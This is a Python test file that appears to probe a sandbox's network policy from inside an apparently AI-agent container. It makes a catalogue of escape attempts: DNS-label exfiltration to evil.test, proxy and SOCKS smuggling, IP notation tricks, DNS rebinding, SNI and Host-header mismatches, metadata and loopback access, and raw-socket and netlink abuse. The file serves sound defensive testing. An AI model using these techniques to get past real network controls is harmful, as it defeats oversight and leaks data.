"""Attempts to get past the network policy, as a program makes them inside a sandbox.

This file runs in the sandbox by itself, with facts as its argument. It makes each attempt in turn, reports
to the host that it has ended (as a connection to a name of its number), and prints what became of each. The
outcome of an attempt is text: what the program got, or why it got nothing.
"""

from __future__ import annotations

import errno
import fcntl
import json
import os
import socket
import struct
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterable
from functools import partial
from typing import Any

PROXY = ("127.0.0.1", 3128)
PUBLIC, PUBLIC_IPV6 = "1.1.1.1", "2606:4700::1111"
FACTS: dict[str, Any] = {}
ATTEMPTS: dict[str, Callable[[], str]] = {}

WORDS = {
    **dict.fromkeys((errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL), "unreachable"),
    **dict.fromkeys((errno.ECONNRESET, errno.EPIPE), "reset"),
    **dict.fromkeys((errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT), "not permitted"),
    **dict.fromkeys((errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT, errno.ENOTTY), "not permitted"),
    errno.ECONNREFUSED: "refused inside",
    errno.EADDRINUSE: "in use",
}
"""Errors that differ between kernels and mean the same."""


def attempt(name: str) -> Callable[[Callable[[], str]], Callable[[], str]]:
    def add(function: Callable[[], str]) -> Callable[[], str]:
        ATTEMPTS[name] = function
        return function

    return add


def outcome(function: Callable[[], str]) -> str:
    try:
        return function()
    except TimeoutError:
        return "no answer"
    except OSError as error:
        return WORDS.get(error.errno or 0, str(error))


def each(*functions: Callable[[], str]) -> str:
    return "; ".join(map(outcome, functions))


def read_all(connected: socket.socket) -> str:
    """Return the first line of what comes until the end, or what it means."""
    got = b"".join(iter(lambda: connected.recv(1 << 16), b""))
    if got == bytes.fromhex("15030300020231"):
        return "TLS alert: access denied"
    return got.split(b"\r\n")[0].decode("latin-1") or "closed"


def connect(address: tuple[str, int], kind: int = socket.SOCK_STREAM) -> socket.socket:
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    connected = socket.socket(family, kind)
    connected.settimeout(10)
    connected.connect(address)
    return connected


def say(host: str, port: int, sent: bytes) -> str:
    """Connect to a name or an address without the proxy, and return the answer."""
    with connect((host, port)) as connected:
        connected.sendall(sent)
        return read_all(connected)


def tunnel(authority: bytes, sent: bytes = b"") -> str:
    """CONNECT through the proxy. Return its refusal, or the answer to what is sent once it is connected."""
    with connect(PROXY) as connected:
        connected.sendall(b"CONNECT " + authority + b" HTTP/1.1\r\n\r\n")
        head = b""
        while b"\r\n\r\n" not in head:
            if not (piece := connected.recv(1)):
                return "closed"
            head += piece
        if b" 200 " not in head:
            return head.split(b"\r\n")[0].decode("latin-1")
        connected.sendall(sent)
        return read_all(connected)


def socks(host: bytes, port: int = 443, *, kind: int = 3, command: int = 1) -> str:
    """Ask the proxy by SOCKS5 for a host: its text (kind 3), or the bytes of an address (1, 4)."""
    size = bytes([len(host)]) if kind == 3 else b""
    with connect(PROXY) as connected:
        connected.sendall(
            b"\x05\x01\x00\x05" + bytes([command, 0, kind]) + size + host + struct.pack("!H", port)
        )
        got = b""
        while len(got) < 4 and (piece := connected.recv(4 - len(got))):
            got += piece
        return f"SOCKS refusal {got[3]}" if got[3:4] != b"\0" else "connected"


def get(host: str, *, path: str = "/", more: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode()


def tunnels(hosts: Iterable[str]) -> str:
    return each(*(partial(tunnel, f"{host}:443".encode()) for host in hosts))


def hello(kind: str) -> bytes:
    return bytes.fromhex(FACTS["hellos"][kind])


# Names


@attempt("a name that is not allowed")
def _() -> str:
    return each(
        lambda: tunnel(b"other.test:443"),
        lambda: say(socket.gethostbyname("other.test"), 80, get("other.test")),
        lambda: say(socket.gethostbyname("other.test"), 443, hello("other.test")),
    )


@attempt("a name that ends or begins like an allowed one")
def _() -> str:
    return tunnels(("evilindex.test", "index.test.evil.test", "index.testx", "sub.index.test", "wild.test"))


@attempt("a name with two dots at its end, or an empty label")
def _() -> str:
    return tunnels(("index.test..", "index..test", ".index.test"))


@attempt("a name with NUL, line ends, spaces or other control characters")
def _() -> str:
    names = (b"index.test\0.other.test", b"index.test\r\nx", b"index.test other.test", b"\x1bindex.test")
    return each(*(partial(socks, name) for name in names))


@attempt("an international name that looks like an allowed one")
def _() -> str:
    return tunnels(("xn--ndex-tpa.test", "index.xn--tst-qla"))


@attempt("another port of an allowed name")
def _() -> str:
    return each(lambda: tunnel(b"db.internal:22"), lambda: tunnel(b"a.wild.test:80"))


@attempt("many names that carry data, in lookups and connections")
def _() -> str:
    for number in range(40):
        socket.gethostbyname(f"{number}-{'secret' * 8}.evil.test")
    return tunnels(f"{number}-{'secret' * 8}.evil.test" for number in range(3))


@attempt("another name server")
def _() -> str:
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\0\0\x01\0\x01"

    def by_packet() -> str:
        with connect((PUBLIC, 53), socket.SOCK_DGRAM) as connected:
            connected.send(query)
            return read_all(connected)

    return each(
        by_packet,
        lambda: say(PUBLIC, 53, struct.pack("!H", len(query)) + query),
        lambda: tunnel(f"{PUBLIC}:53".encode()),
    )


# Addresses


@attempt("a public address, in any notation, through the proxy")
def _() -> str:
    notations = ("1.1.1.1", "1.1", "16843009", "0x01010101", "0x1.1", "01.01.01.01", "[2606:4700::1111]")
    mapped = ("[::ffff:1.1.1.1]", "[::ffff:101:101]", "[64:ff9b::101:101]", "[2002:101:101::]")
    return tunnels((*notations, *mapped))


@attempt("a public address without the proxy")
def _() -> str:
    return each(*(partial(say, host, 443, b"x") for host in (PUBLIC, PUBLIC_IPV6)))


@attempt("an address in SOCKS5")
def _() -> str:
    four, six = socket.inet_aton(PUBLIC), socket.inet_pton(socket.AF_INET6, PUBLIC_IPV6)
    mapped = socket.inet_pton(socket.AF_INET6, f"::ffff:{PUBLIC}")
    return each(lambda: socks(four, kind=1), lambda: socks(six, kind=4), lambda: socks(mapped, kind=4))


@attempt("an IPv6 address with a zone")
def _() -> str:
    return tunnels(("[fe80::1%25eth0]", "[fe80::1%eth0]", "[::1%lo]"))


@attempt("the host's loopback and this server")
def _() -> str:
    port = FACTS["host_port"]
    hosts = ("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0", "localhost")
    six = ("[::1]", "[::]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]", "host.docker.internal")
    direct = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1")
    return each(
        *(partial(tunnel, f"{host}:{port}".encode()) for host in (*hosts, *six)),
        *(partial(say, host, port, b"x") for host in direct),
    )


@attempt("an allowed name that leads to a loopback, private or metadata address")
def _() -> str:
    return tunnels(("loopback.test", "private.test", "metadata.test", "mapped.test"))


@attempt("a DNS answer that changes after the first connection")
def _() -> str:
    return each(*[partial(tunnel, b"rebind.test:5000", b"\xff" * 4)] * 2)


@attempt("an allowed name that leads to this machine's own public address")
def _() -> str:
    return tunnels(("own.test",))


@attempt("another container")
def _() -> str:
    def abstract() -> str:
        with socket.socket(socket.AF_UNIX) as connected:
            connected.connect("\0agent-kernel-neighbour")
            return "connected"

    port = FACTS["neighbour_port"]
    name = FACTS["neighbour"]
    return each(
        lambda: say("127.0.0.1", port, b"x"),
        lambda: tunnel(f"{name}:{port}".encode()),
        lambda: tunnel(f"172.17.0.2:{port}".encode()),
        lambda: say("172.17.0.2", port, b"x"),
        abstract,
    )


# What a connection carries


@attempt("a CONNECT name that differs from the TLS server name")
def _() -> str:
    return each(
        lambda: tunnel(b"index.test:443", hello("other.test")),
        lambda: tunnel(b"index.test:8443", hello("other.test")),
        lambda: say(socket.gethostbyname("index.test"), 443, hello("other.test")),
    )


@attempt("TLS without a server name")
def _() -> str:
    return tunnel(b"index.test:443", hello("none"))


@attempt("TLS with an encrypted ClientHello")
def _() -> str:
    return tunnel(b"index.test:443", hello("hidden"))


@attempt("something else than TLS to port 443")
def _() -> str:
    return tunnel(b"index.test:443", get("index.test"))


@attempt("a Host header that differs from the name")
def _() -> str:
    address = socket.gethostbyname("index.test")
    return each(
        lambda: say(address, 80, get("other.test")),
        lambda: tunnel(b"index.test:80", get("other.test")),
        lambda: tunnel(b"index.test:8080", get("other.test")),
    )


@attempt("a Host header that differs in a later request of the connection")
def _() -> str:
    first = get("index.test").replace(b"Connection: close\r\n", b"")
    return say(socket.gethostbyname("index.test"), 80, first + get("other.test"))


@attempt("a request target, or a second Host header, that differs")
def _() -> str:
    address = socket.gethostbyname("index.test")
    return each(
        lambda: say(address, 80, get("index.test", path="http://other.test/")),
        lambda: say(address, 80, get("index.test", more="Host: other.test\r\n")),
    )


@attempt("CONNECT to a web server")
def _() -> str:
    sent = b"CONNECT other.test:443 HTTP/1.1\r\nHost: index.test\r\n\r\n"
    return say(socket.gethostbyname("index.test"), 80, sent)


@attempt("HTTP/2 or WebSockets over plain HTTP")
def _() -> str:
    address = socket.gethostbyname("index.test")
    return each(
        lambda: say(address, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        lambda: say(address, 80, get("index.test", more="Upgrade: websocket\r\n")),
    )


@attempt("a redirect to a forbidden host or address")
def _() -> str:
    def follow(path: str) -> str:
        try:
            return str(urllib.request.urlopen(f"http://index.test/{path}", timeout=10).status)
        except urllib.error.HTTPError as error:
            return str(error)

    return each(lambda: follow("to-other"), lambda: follow("to-metadata"))


# Other ways out


@attempt("UDP, QUIC for instance")
def _() -> str:
    def send(address: tuple[str, int]) -> str:
        with connect(address, socket.SOCK_DGRAM) as connected:
            connected.send(b"x" * 1200)
            return read_all(connected)

    mapped = socket.gethostbyname("index.test")
    return each(*(partial(send, (to, 443)) for to in (PUBLIC, PUBLIC_IPV6, mapped)))


@attempt("UDP or a listening port through the proxy")
def _() -> str:
    return each(*(partial(socks, b"index.test", command=command) for command in (2, 3)))


@attempt("ICMP")
def _() -> str:
    echo = b"\x08\0\xf7\xfe\0\0\0\1"

    def send(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as made:
            made.sendto(echo, (PUBLIC, 0))
            return "sent"

    return each(lambda: send(socket.SOCK_DGRAM), lambda: send(socket.SOCK_RAW))


@attempt("raw, packet and VSOCK sockets")
def _() -> str:
    def make(family: int, kind: int, protocol: int) -> str:
        socket.socket(family, kind, protocol).close()
        return "made"

    kinds = (
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP),
        (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
        (socket.AF_VSOCK, socket.SOCK_STREAM, 0),
    )
    return each(*(partial(make, *kind) for kind in kinds))


@attempt("a new address, route or device")
def _() -> str:
    def address() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            request = struct.pack("16sH2s4s8x", b"lo", socket.AF_INET, b"", socket.inet_aton("10.1.2.3"))
            fcntl.ioctl(made, 0x8916, request)  # SIOCSIFADDR
            return "made"

    def netlink(kind: int, body: bytes) -> str:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as made:
            # NLM_F_REQUEST, NLM_F_ACK, NLM_F_CREATE
            made.send(struct.pack("=IHHII", 16 + len(body), kind, 0x405, 1, 0) + body)
            code = -struct.unpack_from("=i", made.recv(1 << 16), 16)[0]
            raise OSError(code, os.strerror(code))

    route = struct.pack("=8BI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    device = (
        struct.pack("=BxHiII", 0, 0, 0, 0, 0)
        + struct.pack("=HH", 16, 18)
        + struct.pack("=HH8s", 12, 1, b"dummy\0")
    )
    return each(address, lambda: netlink(24, route), lambda: netlink(16, device))


@attempt("a listener on a port of the network's")
def _() -> str:
    def take(address: str, port: int, *options: int) -> str:
        with socket.socket() as made:
            for option in options:
                made.setsockopt(socket.SOL_SOCKET, option, 1)
            made.bind((address, port))
            made.listen()
            return "taken"

    targets = (("0.0.0.0", 443), (socket.gethostbyname("index.test"), 443), ("127.0.0.1", 53), PROXY)
    options = ((), (socket.SO_REUSEADDR, socket.SO_REUSEPORT))
    return each(*(partial(take, *to, *how) for to in targets for how in options))


def main() -> None:
    FACTS.update(json.loads(sys.argv[1]))
    outcomes = {}
    for number, (name, function) in enumerate(ATTEMPTS.items()):
        outcomes[name] = outcome(function)
        tunnel(f"n{number}.ended.test:1".encode())
    print(json.dumps(outcomes))


if __name__ == "__main__":
    main()
